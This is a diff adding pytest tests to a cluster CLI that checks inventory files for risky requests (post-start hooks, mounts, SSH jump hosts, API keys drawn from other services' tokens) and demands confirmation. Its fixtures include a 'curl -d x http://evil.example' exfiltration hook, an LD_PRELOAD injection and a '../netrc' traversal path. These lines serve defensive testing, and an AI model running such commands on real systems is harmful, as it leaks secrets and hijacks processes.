@@ -1,4 +1,4 @@
-"""What a stranger's playbook wants of a node: refused, shown or asked about, by the real command line."""
+"""What a stranger's playbook or inventory wants: refused, shown or asked about, by the real command line."""
 
 from __future__ import annotations
 
@@ -521,3 +521,89 @@ def test_the_question_shows_the_block_and_takes_only_a_yes(node: Node, tmp_path:
             terminal.type(answer)
             assert terminal.end() == expected
         assert (tmp_path / "state").exists() == (expected == 1)
+
+
+def test_image_and_keys_that_the_inventory_sets_over_a_bundled_playbook_are_asked_about(
+    tmp_path: Path, up: Run, node: Node
+) -> None:
+    for at, more in enumerate(("image: org/evil:latest\n", "set: {env.LD_PRELOAD: /x}\n", "set: {setup: [curl x]}\n")):
+        path = inventory(tmp_path, None, port=node.server_address[1], name=f"case-{at}", more=more)
+        assert up(path).code == 2, more
+        assert up(path, "--yes").code == 1
+
+
+# Lines of an inventory, and how they are listed.
+OWN = {
+    "after_ready: ['curl -d x http://evil.example']": "after_ready curl -d x http://evil.example",
+    "after_ready: [sh hook.sh]": "after_ready sh hook.sh (in DIRECTORY)",
+    "api: {key: {env: BANK_TOKEN}}": "api.key    $BANK_TOKEN",
+    "api: {key: {file: ~/.config/sparkcluster/../netrc}}": "api.key    ~/.config/sparkcluster/../netrc",
+    "permit: {mounts: ['/data:rw'], secrets: [A]}": "permit     mounts: /data:rw",
+    "ssh: {identity: ~/id}": "identity   ~/id",
+    "ssh: {jump: 'root@127.0.0.1:PORT'}": "jump       root@127.0.0.1:PORT",
+    "ssh: {known_hosts: ~/kh, host_keys: accept-new}": "known_hosts ~/kh (accept-new)",
+}
+NOT_ASKED = """\
+api: {key: {file: ~/.config/sparkcluster/c.key}}
+ssh: {known_hosts: ~/kh, user: nvidia}
+hf_home: /data/hf
+"""
+
+
+@pytest.mark.parametrize("line", OWN)
+def test_what_an_inventory_asks_for_is_shown_and_accepted_once(
+    tmp_path: Path, run: Run, up: Run, node: Node, line: str
+) -> None:
+    def filled(text: str) -> str:
+        return text.replace("PORT", str(node.server_address[1])).replace("DIRECTORY", str(tmp_path))
+
+    for name in ("id", "hook.sh"):
+        (tmp_path / name).write_text("x")
+    path = inventory(tmp_path, None, port=node.server_address[1], more=filled(line))
+    listed = f"  {filled(OWN[line])}"
+    assert listed in run("lint", path).out.splitlines()
+    refused = up(path)
+    assert (refused.code, "--yes" in refused.err) == (2, True), refused
+    assert listed in up(path, "--yes").err.splitlines()
+    assert up(path).code == 1
+
+
+def test_lines_of_an_inventory_are_accepted_and_not_its_file(tmp_path: Path, run: Run, up: Run, node: Node) -> None:
+    def written(more: str, name: str = "inventory", directory: Path = tmp_path) -> Path:
+        directory.mkdir(exist_ok=True)
+        (directory / "hook.sh").write_text("")
+        return inventory(directory, None, port=node.server_address[1], name=name, more=more)
+
+    hook = "after_ready: [curl http://a.example]\n"
+    assert up(written(hook), "--yes").code == 1
+    assert up(written(f"# a comment\n{hook}{NOT_ASKED}")).code == 1
+    assert up(written(hook, "another", tmp_path / "elsewhere")).code == 1
+    both = up(written(f"{hook}permit: {{mounts: [/data]}}\n"))
+    assert both.code == 2
+    assert "curl" not in both.err
+    assert up(written(hook.replace("a.example", "b.example"))).code == 2
+    # the same words, another program
+    beside = "after_ready: [sh hook.sh]\n"
+    assert up(written(beside), "--yes").code == 1
+    assert up(written(beside, directory=tmp_path / "elsewhere")).code == 2
+
+
+@pytest.mark.parametrize("words", [("stage",), ("upgrade",), ("upgrade", "--resume"), ("rollback",), ("restart",)])
+def test_whatever_starts_something_asks_about_the_inventory_before_it_connects(
+    tmp_path: Path, run: Run, node: Node, words: tuple[str, ...]
+) -> None:
+    (tmp_path / "id").write_text("x")
+    path = inventory(tmp_path, None, port=node.server_address[1], more="ssh: {identity: ~/id}\n")
+    refused = run(words[0], path, *words[1:])
+    assert (refused.code, node.contacts) == (2, 0), refused
+    assert "identity" in refused.err
+
+
+def test_a_token_of_another_account_is_no_api_key(tmp_path: Path, run: Run) -> None:
+    names = ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY", "ANTHROPIC_API_KEY")
+    paths = [inventory(tmp_path, None, name=name, more=f"api:\n  key: {{env: {name}}}\n") for name in names]
+    found = json.loads(run("lint", *paths, "--json").out)["findings"]
+    for path in paths:
+        (told,) = [each for each in found if each["file"] == str(path) and each["severity"] == "error"]
+        assert told["line"] == 5
+        assert "sparkcluster key" in told["remedy"][0]
